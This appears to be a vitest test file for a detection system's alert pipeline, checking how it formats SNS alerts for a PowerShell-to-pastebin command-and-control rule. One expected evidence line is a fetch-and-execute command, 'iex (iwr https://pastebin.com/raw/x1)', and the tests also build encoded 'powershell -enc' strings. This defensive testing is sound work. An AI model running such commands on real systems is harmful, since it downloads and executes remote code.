import { describe, expect, it } from 'vitest';
import type { DetectionFinding } from '../../lib/alert/index.ts';
import { buildFinding } from '../../lib/alert/index.ts';
import {
  alertSubject,
  buildAlertMessage,
  MAX_SNS_MESSAGE_BYTES,
  MAX_SUBJECT_CHARS,
  messageBytes,
  truncate,
} from '../../lib/pipeline/index.ts';
import { defaultRule } from '../../lib/rule/index.ts';
import { sampleGroup } from '../helpers/alerts.ts';

const rule = defaultRule().rule;

const group = sampleGroup;

const parse = (message: string) => JSON.parse(message) as { default: string; email: string };

describe('Alert message: subject', () => {
  it('names the process, the domain, the host and the count', () => {
    // Act
    const subject = alertSubject(buildFinding(rule, group()));

    // Assess
    expect(subject).toBe('T1102 web service C2: powershell.exe -> pastebin.com on WKS-7 (12x)');
  });

  it.each([
    ['a huge host name', { host: 'H'.repeat(5000) }],
    ['line breaks and tabs', { host: 'WKS\r\n7\tX', process: 'power\nshell.exe' }],
    ['non-ASCII names', { host: 'ÜBERRECHNER-数据', user: 'CORP\\zoë' }],
  ])('stays at most 99 printable ASCII characters with %s', (_what, key) => {
    // Act
    const subject = alertSubject(buildFinding(rule, group(key)));

    // Assess
    expect(subject.length).toBeLessThanOrEqual(MAX_SUBJECT_CHARS);
    expect(subject).toMatch(/^[\x20-\x7e]+$/);
    expect(subject).toMatch(/^T1102 web service C2: /);
  });

  it('folds accents instead of dropping letters', () => {
    // Act
    const subject = alertSubject(buildFinding(rule, group({ host: 'ÜBER-PC' })));

    // Assess
    expect(subject).toContain('on UBER-PC (12x)');
  });
});

describe('Alert message: body and attributes', () => {
  it('carries the Detection Finding as default and a readable email', () => {
    // Act
    const m = buildAlertMessage(rule, group(), { activity: 'create', source: 'sysmon' });

    // Assess
    const { default: body, email } = parse(m.message);
    const finding = JSON.parse(body) as DetectionFinding;
    expect(finding.class_uid).toBe(2004);
    expect(finding.finding_info.uid).toBe(m.uid);
    expect(finding.count).toBe(12);
    expect(finding.unmapped.evidence_trimmed).toBeUndefined();
    expect(m.trimmed).toBe(false);
    for (const section of ['WHAT HAPPENED', 'WHERE', 'HOW OFTEN', 'EVIDENCE', 'WHAT TO CHECK']) {
      expect(email).toContain(section);
    }
    expect(email).toContain(
      'first seen 2024-03-05T09:14:22.418Z, last seen 2024-03-05T09:29:22.519Z',
    );
    expect(email).toContain('iex (iwr https://pastebin.com/raw/x1)');
    expect(email).toContain('s3://logs/sysmon/batch.xml.gz record 17');
  });

  it('sets the filter-policy attributes', () => {
    // Act
    const m = buildAlertMessage(rule, group(), { activity: 'create', source: 'falcon' });

    // Assess
    const values = Object.fromEntries(
      Object.entries(m.attributes).map(([k, v]) => [k, v.StringValue]),
    );
    expect(values).toEqual({
      rule: 't1102-web-service',
      severity: 'High',
      technique: 'T1102',
      source: 'falcon',
      host: 'WKS-7',
      process: 'powershell.exe',
      domain: 'pastebin.com',
    });
    expect(Object.values(m.attributes).every((a) => a.DataType === 'String')).toBe(true);
  });

  it('leaves out an attribute whose value is empty, which SNS would reject', () => {
    // Act
    const m = buildAlertMessage(rule, group({ host: '' }), {
      activity: 'create',
      source: 'sysmon',
    });

    // Assess
    expect(m.attributes.host).toBeUndefined();
    expect(m.attributes.domain?.StringValue).toBe('pastebin.com');
  });

  it('marks an update as such', () => {
    // Act
    const m = buildAlertMessage(rule, group(), { activity: 'update', source: 'sysmon' });

    // Assess
    expect((JSON.parse(parse(m.message).default) as DetectionFinding).activity_id).toBe(2);
  });
});

describe('Alert message: size', () => {
  it('trims evidence that would exceed 262,144 bytes and says so', () => {
    // Prepare: ten distinct 40 KB command lines, in the finding and again in the email.
    const g = group();
    g.evidence.commandLines = Array.from(
      { length: 10 },
      (_, i) => `powershell -enc ${String(i).repeat(40_000)}`,
    );

    // Act
    const m = buildAlertMessage(rule, g, { activity: 'create', source: 'sysmon' });

    // Assess
    expect(m.bytes).toBeLessThanOrEqual(MAX_SNS_MESSAGE_BYTES);
    expect(m.bytes).toBe(messageBytes(m.message, m.subject, m.attributes));
    expect(m.trimmed).toBe(true);
    const { default: body, email } = parse(m.message);
    const finding = JSON.parse(body) as DetectionFinding;
    expect(finding.unmapped.evidence_trimmed).toBe(true);
    expect(finding.finding_info.uid).toBe(buildFinding(rule, g).finding_info.uid);
    expect(finding.count).toBe(12);
    expect(finding.unmapped.command_lines.length).toBeGreaterThan(0);
    expect(email).toContain('Evidence trimmed');
  });

  it('counts attributes and subject against the limit', () => {
    // Act
    const m = buildAlertMessage(rule, group(), { activity: 'create', source: 'sysmon' });

    // Assess
    const attributeBytes = Object.entries(m.attributes).reduce(
      (n, [k, v]) =>
        n + k.length + (v.DataType ?? '').length + Buffer.byteLength(v.StringValue ?? ''),
      0,
    );
    expect(m.bytes).toBe(Buffer.byteLength(m.message) + m.subject.length + attributeBytes);
  });

  it('never splits a surrogate pair when cutting', () => {
    // Act
    const cut = truncate(`ab${'😀'.repeat(10)}`, 5);

    // Assess
    expect(cut.length).toBeLessThanOrEqual(5);
    expect(cut).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
  });
});
